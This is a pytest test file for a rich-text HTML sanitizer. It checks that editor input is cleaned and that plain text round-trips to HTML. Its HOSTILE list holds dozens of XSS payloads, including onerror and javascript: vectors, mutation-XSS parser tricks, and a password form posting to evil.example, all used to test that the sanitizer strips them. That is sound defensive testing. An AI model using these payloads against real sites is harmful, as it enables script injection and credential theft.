"""What may be in the text of editors, and that nothing else comes through, however it is dressed."""

from __future__ import annotations

import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st

from app.domain.kernel.richtext import (
    ATTRIBUTES,
    TAGS,
    clean_html,
    html_of_typed,
    plain_text,
    summary,
    typed_of_html,
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    '<p onclick="alert(1)">x</p>',
    '<p style="position:fixed">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<a href="vbscript:x">x</a>',
    '<p hx-get="/sign-out" hx-trigger="load">x</p>',
    '<p data-hx-get="/sign-out">x</p>',
    '<p data-confirm id="main" class="note" name="x" aria-hidden="true">x</p>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x"></object><embed src="x">',
    "<base href='https://evil.example'>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example'</style>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><caption><svg><title><template><style></title><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<p><b<script>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<a href='https://x.example' target='_blank' ping='https://evil.example'>x</a>",
    "<td colspan='9999999' rowspan='-1'>x</td>",
    "<p\x00 onclick=alert(1)>x</p>",
    "<custom-element onx=1>x</custom-element>",
]


def check_harmless(html: str) -> None:
    """Nothing but the allowed elements and attributes, as a browser's parser sees it."""
    for tag in BeautifulSoup(html, "html5lib").body.find_all(True):
        assert tag.name in TAGS, tag
        assert set(tag.attrs) <= ATTRIBUTES.get(tag.name, set()), tag
        href = str(tag.get("href", "#"))
        assert href.startswith(("https://", "http://", "mailto:", "tel:", "/", "#")), href
        assert not href.startswith(("//", "/\\")), href


@pytest.mark.parametrize("typed", HOSTILE, ids=range(len(HOSTILE)))
def test_nothing_hostile_comes_through(typed: str) -> None:
    for cleaned in (clean_html(typed), clean_html(f"<p>before {typed} after</p>"), html_of_typed(typed)):
        check_harmless(cleaned)


@pytest.mark.parametrize("typed", HOSTILE, ids=range(len(HOSTILE)))
def test_cleaning_what_is_clean_changes_nothing(typed: str) -> None:
    once = clean_html(typed)
    assert clean_html(once) == once


@given(st.text(alphabet="<>/=\"' abpimgsvtyle!-&;:xonerror\n", max_size=80))
def test_no_arrangement_of_signs_comes_through(typed: str) -> None:
    check_harmless(clean_html(typed))
    check_harmless(html_of_typed(typed))


def test_what_editors_need_stays() -> None:
    text = (
        '<h2>Seats</h2><p>See <a href="/bn/pages/rules">the rules</a> or <a href="tel:+8801700000900">call</a>, '
        '<strong>today</strong>.</p><ul><li>one</li></ul><table><thead><tr><th scope="col">Class</th></tr></thead>'
        '<tbody><tr><td colspan="2">Six</td></tr></tbody></table><p lang="ar" dir="rtl">مرحبا</p>'
    )
    assert clean_html(text) == text


def test_plain_text_becomes_paragraphs_lists_and_headings() -> None:
    typed = "## Sports day\nBring water.\n\n- a cap\n- shoes\n\n১. দৌড়\n২. লাফ\n\n2 < 3 & 5"
    assert html_of_typed(typed).replace("\n", "") == (
        "<h2>Sports day</h2><p>Bring water.</p><ul><li>a cap</li><li>shoes</li></ul>"
        "<ol><li>দৌড়</li><li>লাফ</li></ol><p>2 &lt; 3 &amp; 5</p>"
    )


def test_what_was_made_of_text_stays_as_it_is_when_it_is_saved_again() -> None:
    once = html_of_typed("One\n\n- two\n- three")
    assert html_of_typed(once) == once


@pytest.mark.parametrize(
    "typed", ["One\ntwo\n\nthree", "## Head\n\n- a\n- b", "1. x\n2. y\n\nend", "a < b & c", "&amp; &lt;p&gt;"]
)
def test_editors_get_back_what_they_typed(typed: str) -> None:
    assert typed_of_html(html_of_typed(typed)) == typed


@given(st.text(alphabet="ab<>&;/-# 1.\np", max_size=60))
def test_what_editors_get_back_means_the_same(typed: str) -> None:
    stored = html_of_typed(typed)
    assert html_of_typed(typed_of_html(stored)) == stored


@pytest.mark.parametrize("stored", ["<p><strong>x</strong></p>", '<p lang="ar">x</p>', "<table></table>"])
def test_html_that_plain_text_cannot_say_stays_html(stored: str) -> None:
    assert typed_of_html(stored) == stored


def test_words_are_kept_apart_where_blocks_end() -> None:
    assert plain_text("<p>One</p><ul><li>two</li><li>three &amp; four</li></ul>") == "One two three & four"


def test_a_summary_ends_at_a_word() -> None:
    assert summary("<p>School begins at half past eight.</p>", 20) == "School begins at…"
    assert summary("<p>Short.</p>", 20) == "Short."


def test_many_headings_in_a_row_are_headings() -> None:
    assert html_of_typed("## One\n## Two\nText").count("<h2>") == 2
    assert html_of_typed("## x\n" * 4000).count("<h2>") == 4000
